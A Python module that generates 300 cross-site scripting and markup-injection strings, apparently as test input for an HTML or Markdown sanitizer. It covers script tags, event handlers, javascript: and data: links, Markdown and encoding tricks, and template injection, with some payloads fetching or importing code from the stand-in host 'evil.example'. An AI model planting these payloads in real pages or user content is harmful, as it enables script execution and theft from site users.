"""Strings that run a script, or fetch something from elsewhere, where a page takes text for markup."""

from __future__ import annotations

from itertools import count, product
from typing import Final

FOREIGN: Final = "//evil.example"
_CALLS: Final = ("hit({n})", "window.hit({n})", "top['hit']({n})", "fetch('{host}/{n}')", "import('{host}/{n}.js')")
_TAGS: Final = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT >",
    "<script src={host}/{n}.js></script>",
    "<img src=x onerror={call}>",
    '<img src="x"onerror="{call}">',
    "<IMG SRC=/ ONERROR={call}//",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<details open ontoggle={call}>x",
    "<body onload={call}>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}></select>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:{call}></iframe>",
    "<object data=javascript:{call}></object>",
    "<embed src={host}/{n}.svg>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--><img src=x onerror={call}>'>",
    "<a href=javascript:{call} autofocus>click</a>",
    "<form action=javascript:{call}><button autofocus>x</button></form>",
    "<meta http-equiv=refresh content='0;url={host}/{n}'>",
    "<link rel=stylesheet href={host}/{n}.css>",
    "<style>@import '{host}/{n}.css';</style>",
    "<div style=\"background:url('{host}/{n}.png')\">x</div>",
    "<base href={host}/>",
    "<marquee onstart={call}>x</marquee>",
    "<x contenteditable autofocus onfocus={call}>x",
    "<template shadowrootmode=open><img src=x onerror={call}></template>",
    '"><script>{call}</script>',
    "'><img src=x onerror={call}>",
    "</title></textarea></style></script><img src=x onerror={call}>",
    "</p></div><svg/onload={call}>",
    "]]><img src=x onerror={call}>",
    "--><img src=x onerror={call}>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "&lt;img src=x onerror={call}&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "\\u003cimg src=x onerror={call}\\u003e",
    "%3Cscript%3E{call}%3C/script%3E",
    "${{{call}}}",
    "{{{{{call}}}}}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "javascript:{call}",
    "data:text/html,<script>{call}</script>",
    "[click](javascript:{call})",
    "[click](JaVaScRiPt:{call})",
    "[click](  javascript:{call})",
    "[click](java&#10;script:{call})",
    "[click](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)",
    "[click](vbscript:{call})",
    "[click]({host}/{n} \"' onmouseover='{call}\")",
    "![picture](https:{host}/{n}.png)",
    "![picture]({host}/{n}.png)",
    '![picture](x" onerror="{call})',
    "![<img src=x onerror={call}>](x)",
    "<https:{host}/{n}><img src=x onerror={call}>",
    "<javascript:{call}>",
    "[ref]: javascript:{call}\n\n[ref]",
    "```\n</code></pre><img src=x onerror={call}>\n```",
    '```html" onload="{call}\n<script>{call}</script>\n```',
    "`<img src=x onerror={call}>`",
    "| a |\n|---|\n| <img src=x onerror={call}> |",
    "- [ ] <img src=x onerror={call}>",
    "[^1]: <img src=x onerror={call}>\n\nx[^1]",
    "<!--[if gte IE 4]><script>{call}</script><![endif]-->",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{call}</script>",
)


def _strings() -> list[str]:
    numbers = count(1)
    made = [
        tag.format(call=call.format(n=number, host=FOREIGN), host=FOREIGN, n=number)
        for call, tag in product(_CALLS, _TAGS)
        for number in [next(numbers)]
    ]
    return list(dict.fromkeys(made))[:300]


STRINGS: Final = _strings()
"""300 different ones; each that runs calls ``hit`` or asks another host for something."""
